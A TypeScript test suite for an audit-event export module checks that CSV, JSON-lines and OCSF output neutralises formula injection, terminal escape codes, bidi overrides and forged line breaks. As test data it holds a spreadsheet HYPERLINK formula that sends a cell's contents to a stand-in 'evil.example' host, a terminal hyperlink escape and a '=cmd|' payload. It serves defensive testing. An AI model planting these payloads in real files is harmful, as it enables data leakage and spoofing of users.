import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvCell, csvHead, csvLine } from './csv.ts';
import { ENCODINGS, EXPORT_FORMATS } from './format.ts';
import { event, full, subject } from './testing.ts';

/** A reader of RFC 4180 of the test's own. */
function parseCsv(text: string): readonly (readonly string[])[] {
  return text
    .split('\r\n')
    .slice(0, -1)
    .map((line) => [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(([, quoted, bare]) => (quoted ?? bare ?? '').replaceAll('""', '"')));
}

test('a cell that a spreadsheet would take for a formula begins with an apostrophe, wherever the formula hides', () => {
  const formulas = [
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '  =1',
    '\u200b=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A',
    '"=1',
    "'=1",
  ];
  for (const formula of formulas) assert.match(csvCell(formula), /^"'/, JSON.stringify(formula));
  for (const plain of ['tools/call run', 'a=b', 'x-1', 'alice@example.org', '{"id":"=1"}']) assert.equal(csvCell(plain), `"${plain.replaceAll('"', '""')}"`);
});

test('a cell holds nothing that acts on a terminal, turns the direction of writing, or breaks the line', () => {
  const hostile = `a\u001b]8;;https://evil.example\u0007b\u202ec\r\n2026-01-01,forged\u0000\u009b2J\u2028`;
  const cell = csvCell(hostile);
  assert.doesNotMatch(cell, /[\p{Cc}\p{Cf}\u2028]/u);
  assert.equal(parseCsv(`${cell}\r\n`).length, 1);
});

test('every event is one line of as many cells as the head has, whatever is in it', () => {
  const hostile = event('command.failed', { ...full, note: '=1,"\r\n",\u202e', subject: { ...subject, name: '@alice",x', groups: ['=a', 'b,c'] } });
  for (const content of [true, false]) {
    const bodies = [
      { name: 'request' as const, contentType: 'application/json', text: '=cmd|\n"x",y' },
      { name: 'reply' as const, contentType: 'text/plain' },
    ];
    const lines = parseCsv(
      csvHead({ content }) + csvLine({ event: hostile, bodies }, { content }) + csvLine({ event: event('policy.changed', {}) }, { content }),
    );
    assert.deepEqual(
      lines.map((cells) => cells.length),
      [lines[0]?.length, lines[0]?.length, lines[0]?.length],
    );
    const row = new Map(lines[0]?.map((name, at) => [name, lines[1]?.[at]]));
    assert.equal(row.get('subject'), `'@alice",x`);
    assert.equal(row.get('groups'), `'=a, b,c`);
    assert.equal(row.get('time'), '2026-11-21T12:00:00.000Z');
    assert.equal(row.get('content'), content ? 'request: =cmd|\\u{a}"x",y\\u{a}reply: [erased]' : undefined);
    for (const cells of lines.slice(1)) for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
  }
});

test('JSON lines and OCSF say the same as the event, on one line of characters that do nothing', () => {
  const hostile = event('command.failed', { ...full, note: 'a\u001b[2J\u202e\u2028\n\u0085b' });
  for (const format of ['jsonl', 'ocsf'] as const) {
    const line = ENCODINGS[format].line({ event: hostile }, { content: false });
    assert.doesNotMatch(line.slice(0, -1), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    assert.ok(line.endsWith('}\n'));
    assert.match(JSON.stringify(JSON.parse(line)), /a\\u001b\[2J/);
  }
  const kept: unknown = JSON.parse(ENCODINGS.jsonl.line({ event: hostile }, { content: false }));
  assert.deepEqual(kept, JSON.parse(JSON.stringify(hostile)));
});

test('there is an encoding for each format', () => {
  assert.deepEqual(Object.keys(ENCODINGS), [...EXPORT_FORMATS]);
});
